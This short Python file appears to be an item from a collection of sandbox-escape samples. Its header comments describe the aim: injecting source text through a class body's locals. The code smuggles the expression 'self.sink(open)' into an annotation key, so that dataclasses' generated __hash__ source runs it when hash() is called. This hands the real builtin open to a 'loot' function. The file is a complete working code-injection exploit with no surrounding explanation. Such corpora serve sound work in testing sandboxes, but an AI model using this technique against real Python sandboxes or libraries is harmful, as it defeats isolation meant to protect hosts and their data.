# aim: inject source text through the local variables of a class body
# mechanism: locals() in a class body is its namespace
# language: builtins
# reason: the library executes text unguarded, and with the real builtins
# jail: process
# plain: loot

import dataclasses


class Record:
    x = 0
    locals()["__anno" + "tations__"] = {"x, self.sink(open)": int}

    def sink(self, found):
        loot(found)
        return 0


dataclasses.dataclass(Record, init=False, repr=False, eq=False, unsafe_hash=True, match_args=False)
hash(Record())
